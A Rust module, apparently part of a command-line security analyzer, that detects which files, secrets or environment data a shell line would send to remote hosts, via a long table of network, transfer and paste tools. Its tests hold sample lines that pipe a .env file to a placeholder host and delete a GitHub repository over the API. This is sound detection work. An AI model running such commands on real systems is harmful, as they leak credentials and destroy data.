//! Which data would leave this machine, and to whom.
//!
//! A reader of a program finds its *sinks* (a URL, a remote host, a bucket) and, for each, the *sources* that
//! flow into it: files named as arguments, what comes down a pipe, what a substitution or a variable puts into a
//! word. Each pair is one effect. Whether a source really holds a secret is a fact, read only when needed.

mod commit;
mod copy;
mod curl;
mod hosted;
mod httpie;
mod inline;
mod options;
mod package;
mod printer;
mod receiver;
mod serve;
mod socket;
mod source;
mod staged;
mod stranger;
mod stream;

pub(in crate::effect) use curl::{curl_takes, wget_takes};
pub(in crate::effect) use hosted::exported;
pub(in crate::effect) use options::{Item, items};
pub(in crate::effect) use stranger::handed_to_program;

use super::{Call, Effect, EffectKind, Target};
use crate::fact::Key;
use crate::syntax::Span;
use receiver::Receiver;
use source::Source;
use std::path::PathBuf;

/// Data and its receiver.
#[derive(Clone, Debug)]
pub struct SendTarget {
    /// Host of the receiver, in small letters; empty where it is only known when the line runs.
    pub host: String,
    /// How it leaves: the value of `sink.kind`.
    pub sink: &'static str,
    /// Where in the request it stands: the value of `source.place`.
    pub place: &'static str,
    /// What is sent.
    pub payload: Payload,
}

/// What is sent, as far as the text tells.
#[derive(Clone, Debug)]
pub enum Payload {
    /// A file, or with `recursive` all that is below a directory, save what the patterns exclude.
    File {
        /// Absolute; `None` where it is only known when the line runs, or lies on another machine.
        path: Option<PathBuf>,
        /// What its name alone says of it.
        kind: Option<crate::secrets::SourceKind>,
        /// A directory would be sent whole.
        recursive: bool,
        /// Names that are left out, with `*` for anything.
        excludes: Vec<String>,
        /// Who decides what is left out besides.
        packer: Packer,
    },
    /// A single secret: a variable, the output of a command that prints one, a token in the line.
    Secret {
        /// The service it belongs to, as far as name or shape tell.
        issuer: Option<String>,
        /// Its kind, where the shape tells.
        kind: Option<&'static str>,
    },
    /// Everything in the environment.
    Environment,
}

/// Who decides which files below a directory are taken, besides the patterns in the line.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash)]
pub enum Packer {
    /// Nobody: all of them are.
    #[default]
    All,
    /// `git add`: what is ignored or known already is not.
    Git,
    /// `git add --force`: what is known already is not.
    GitForced,
    /// `npm publish`: `files` of package.json, or all but what .npmignore or .gitignore name.
    Npm,
    /// `docker build`: what the Dockerfile copies, without what .dockerignore names.
    Docker,
}

/// Programs that send data: the part of the table of programs that belongs to this module.
pub(super) fn read(call: Call<'_>, effects: &mut Vec<Effect>) {
    match call.invocation.program() {
        "curl" | "curlie" => curl::read(call, effects),
        "wget" | "wget2" => curl::read_wget(call, effects),
        "http" | "https" | "xh" | "xhs" => httpie::read(call, effects),

        "scp" | "pscp" => copy::scp(call, effects),
        "rsync" => copy::rsync(call, effects),
        "sftp" | "psftp" | "lftp" => copy::sftp(call, effects),
        "croc" | "wormhole" | "magic-wormhole" | "ffsend" => copy::to_anyone(call, effects),

        "nc" | "ncat" | "netcat" | "nc.openbsd" | "nc.traditional" | "telnet" => {
            socket::netcat(call, effects);
        }
        "socat" => socket::socat(call, effects),
        "openssl" => socket::openssl(call, effects),
        "ssh" => socket::ssh(call, effects),
        "mail" | "mailx" | "s-nail" | "mutt" | "neomutt" | "sendmail" | "swaks" | "msmtp" | "sendemail"
        | "sendEmail" => {
            socket::mail(call, effects);
        }

        "aws" => hosted::aws(call, effects),
        "gsutil" | "gcloud" | "bq" => hosted::google(call, effects),
        "az" | "azcopy" => hosted::azure(call, effects),
        "rclone" => {
            hosted::rclone(call, effects);
            serve::read(call, effects);
        }
        "s3cmd" | "mc" | "s5cmd" => hosted::bucket_tool(call, effects),
        "gh" | "glab" | "hub" => hosted::forge(call, effects),
        "git" => commit::read(call, effects),
        "docker" | "podman" | "buildah" | "nerdctl" => {
            package::image(call, effects);
            serve::container(call, effects);
        }
        "npm" | "pnpm" | "yarn" => package::npm(call, effects),
        "twine" | "cargo" | "gem" | "poetry" | "uv" | "flit" | "hatch" | "nuget" | "dotnet" | "helm"
        | "vsce" | "ovsx" => {
            package::publish(call, effects);
        }
        "cp" | "mv" | "ln" => serve::put(call, effects),
        "serve" | "http.server" | "SimpleHTTPServer" | "uploadserver" | "pyftpdlib" | "http-server"
        | "live-server" | "miniserve" | "simple-http-server" | "caddy" | "ngrok" | "cloudflared"
        | "tailscale" | "httpd" | "busybox" | "darkhttpd" | "webfsd" | "dufs" | "updog" | "gohttpserver"
        | "filebrowser" | "twistd" | "netlify" | "ntl" | "vercel" | "now" | "surge" | "wrangler"
        | "gh-pages" | "firebase" | "smbserver.py" | "impacket-smbserver" | "zrok" => {
            serve::read(call, effects);
        }
        "datasette" | "kaggle" | "elasticdump" => serve::data_set(call, effects),
        "dig" | "kdig" | "drill" | "nslookup" | "host" | "ping" | "ping6" | "traceroute" | "whois" => {
            socket::lookup(call, effects);
        }
        "python" | "python3" | "python2" | "node" | "nodejs" | "deno" | "bun" | "ruby" | "perl" | "php" => {
            inline::read(call, effects);
            serve::read(call, effects);
        }
        "ftp" | "ncftpput" | "tftp" | "smbclient" | "telegram-send" | "slack-cli" | "slackcat" | "slack"
        | "websocat" | "mosquitto_pub" | "nats" | "kcat" | "ipfs" | "ntfy" | "b2" | "jira" | "apprise"
        | "mpack" | "biabam" | "wall" | "write" => {
            copy::others(call, effects);
        }
        "pastebinit" | "wgetpaste" | "sprunge" | "ix" | "pbin" | "dpaste" | "transfer" | "transfersh"
        | "gist" | "fpaste" | "termbin" | "haste" | "hastebin" | "fiche" => {
            hosted::paste(call, effects);
        }
        "llm" | "aichat" | "sgpt" | "mods" | "chatgpt" | "gemini" | "claude" | "codex" | "fabric"
        | "oterm" | "gpt" => {
            stranger::asked(call, effects);
        }
        "logger" => socket::logger(call, effects),
        _ => stranger::read(call, effects),
    }
    socket::redirects(call, effects);
}

/// Most effects of one line; after that only what is a secret by its name is written down.
const MAX_EFFECTS: usize = 1024;

/// Writes down that `source` would be sent to `receiver`.
fn send(receiver: &Receiver, source: Source, place: &'static str, effects: &mut Vec<Effect>) {
    let place = if place == "body" && source.field { "field" } else { place };
    if effects.len() >= MAX_EFFECTS && source.kind == "file" {
        return;
    }
    let again = effects.iter().rev().take(64).any(|effect| {
        let Target::Send(target) = &effect.target else { return false };
        let same = |key: Key, text: &str| {
            effect.attributes.iter().any(|(known, value)| *known == key && value.to_string() == text)
        };
        target.place == place
            && effect.span == source.span
            && same(Key::Source, &source.name)
            && same(Key::Sink, &receiver.name)
    });
    if again {
        return;
    }
    let attributes = vec![
        (Key::Sink, receiver.name.as_str().into()),
        (Key::SinkHost, receiver.host.as_str().into()),
        (Key::SinkKind, receiver.kind.into()),
        (Key::SinkLoopback, receiver.loopback.into()),
        (Key::SinkPlain, receiver.plain.into()),
        (Key::SourceKind, source.kind.into()),
        (Key::Source, source.name.into()),
        (Key::SourcePlace, place.into()),
    ];
    effects.push(Effect {
        kind: EffectKind::DataSend,
        span: source.span,
        attributes,
        target: Target::Send(SendTarget {
            host: receiver.host.clone(),
            sink: receiver.kind,
            place,
            payload: source.payload,
        }),
    });
}

/// A request that changes something: on the interface of a code host it may be the end of a branch or of a
/// repository. `fields` are what it sends.
fn request(call: Call<'_>, method: &str, url: &str, fields: &[&str], span: Span, effects: &mut Vec<Effect>) {
    if Receiver::url(url).host.is_empty() || super::hosting::is_forge(url) {
        effects.extend(super::hosting::read_request(method, url, fields, span, call.scene));
    }
}

/// Writes down every source of a list.
fn send_all(receiver: &Receiver, sources: Vec<Source>, place: &'static str, effects: &mut Vec<Effect>) {
    for source in sources {
        send(receiver, source, place, effects);
    }
}

#[cfg(test)]
mod tests {
    use crate::action::{Line, Scene};
    use crate::effect::{self, EffectKind};
    use proptest::prelude::*;
    use std::collections::BTreeMap;
    use std::path::Path;

    fn kinds(line: &str) -> Vec<EffectKind> {
        let scene = Scene::given(Path::new("/nowhere"), BTreeMap::new());
        let script = crate::syntax::read(&Line::from_bytes(line.as_bytes()), &scene);
        effect::read(&script, &scene).iter().map(|effect| effect.kind).collect()
    }

    #[test]
    fn deleting_over_the_interface_of_a_code_host() {
        for line in [
            "curl -X DELETE https://api.github.com/repos/a/b",
            "curl -XDELETE -H 'Authorization: Bearer x' https://api.github.com/repos/a/b",
            "wget --method=DELETE https://api.github.com/repos/a/b",
            "http DELETE https://api.github.com/repos/a/b",
        ] {
            assert_eq!(kinds(line), [EffectKind::RepositoryDelete], "{line}");
        }
        assert_eq!(kinds("curl https://api.github.com/repos/a/b"), []);
    }

    #[test]
    fn one_effect_for_each_pair() {
        assert_eq!(kinds("curl -d @a -F b=@c https://x https://y").len(), 4);
        assert_eq!(kinds("cat a a | curl -d @- https://x").len(), 2);
        assert_eq!(kinds("curl https://x"), []);
    }

    proptest! {
        #[test]
        fn no_line_of_a_sender_panics(
            program in proptest::sample::select(vec![
                "curl", "wget", "http", "scp", "rsync", "sftp", "nc", "socat", "openssl", "ssh", "mail", "aws", "gsutil",
                "az", "rclone", "mc", "gh", "pastebinit", "cat .env | tar", "cat .env | 7z", "croc",
            ]),
            words in proptest::collection::vec(
                "(-[a-zA-Z]|--[a-z-]{1,12}|@|=|:|-|é|\\$X|'é@ü=:'|https?://[a-z@:/\\[\\]é]{0,9}|[a-z.@:=/é]{0,8}|send|cp|s3|api|gist|create)",
                0..8,
            ),
        ) {
            kinds(&format!("{program} {}", words.join(" ")));
            kinds(&format!("cat .env | {program} {} | curl -d @- https://x", words.join(" ")));
        }
    }
}
